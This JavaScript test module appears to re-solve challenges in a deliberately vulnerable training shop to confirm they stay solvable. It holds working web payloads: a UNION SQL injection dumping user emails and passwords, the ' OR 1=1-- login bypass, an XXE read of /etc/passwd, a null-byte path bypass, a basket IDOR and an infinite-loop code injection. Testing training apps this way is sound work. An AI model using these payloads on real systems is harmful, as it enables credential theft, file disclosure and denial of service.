// After the fuzzing: progress is forgotten (as a trainer's reset does) and a representative set
// of intended challenges is solved again through the API, each checked on the score board.
import { must, request } from './lib/client.mjs';
import { solveArithmetic } from './load.mjs';

const XXE = '<?xml version="1.0"?>\n<!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<order><note>&xxe;</note></order>';

function upload(field, name, type, content) {
  const boundary = '----pulpsolvable';
  return {
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
    body: `--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--${boundary}--\r\n`,
  };
}

/** [challenge key, how to solve it with a customer token]. */
export const REPRESENTATIVE = [
  ['scoreBoardChallenge', (base) => request(base, { path: '/api/Challenges' })],
  ['errorHandlingChallenge', (base) => request(base, { path: "/rest/products/search?q=juice'" })],
  ['unionSqlInjectionChallenge', (base) => request(base, { path: `/rest/products/search?q=${encodeURIComponent("x')) UNION SELECT id,email,password,4,5,6,7,8,9 FROM Users--")}` })],
  ['loginAdminChallenge', (base) => request(base, { method: 'POST', path: '/rest/user/login', body: { email: "' OR 1=1--", password: 'x' } })],
  ['directoryListingChallenge', (base) => request(base, { path: '/ftp/takeover-plans.md' })],
  ['nullByteChallenge', (base) => request(base, { path: '/ftp/coupons-2019.md.bak%2500.md' })],
  ['exposedMetricsChallenge', (base) => request(base, { path: '/metrics' })],
  ['redirectChallenge', (base) => request(base, { path: `/redirect?to=${encodeURIComponent('https://elsewhere.example/?x=https://pulp-shop.example/merchandise')}` })],
  ['basketAccessChallenge', (base, customer) => request(base, { path: `/rest/basket/${customer.bid === 1 ? 2 : 1}`, token: customer.token })],
  ['xxeFileDisclosureChallenge', (base, customer) => request(base, { method: 'POST', path: '/file-upload', token: customer.token, ...upload('file', 'order.xml', 'application/xml', XXE) })],
  ['rceChallenge', (base, customer) => request(base, { method: 'POST', path: '/b2b/v2/orders', token: customer.token, body: { cid: 'JS0815DE', orderLinesData: '(function dos() { while (true); })()' } })],
  [
    'zeroStarsChallenge',
    async (base, customer) => {
      const captcha = (await must(base, { path: '/rest/captcha' })).json;
      return request(base, { method: 'POST', path: '/api/Feedbacks', token: customer.token, body: { comment: 'zero (anonymous)', rating: 0, captchaId: captcha.captchaId, captcha: String(solveArithmetic(captcha.captcha)) } });
    },
  ],
];

export async function stillSolvable(base, { admin, customer }) {
  await must(base, { method: 'POST', path: '/rest/admin/reset', token: admin.token, body: { scope: 'progress' } });
  const result = { checked: REPRESENTATIVE.length, solved: 0, notSolved: [] };
  for (const [, solve] of REPRESENTATIVE) await solve(base, customer);
  const solved = new Set((await must(base, { path: '/api/Challenges?sort=x' })).json.data.filter((challenge) => challenge.solved).map((challenge) => challenge.key));
  for (const [key] of REPRESENTATIVE) {
    if (solved.has(key)) result.solved += 1;
    else result.notSolved.push(key);
  }
  return result;
}
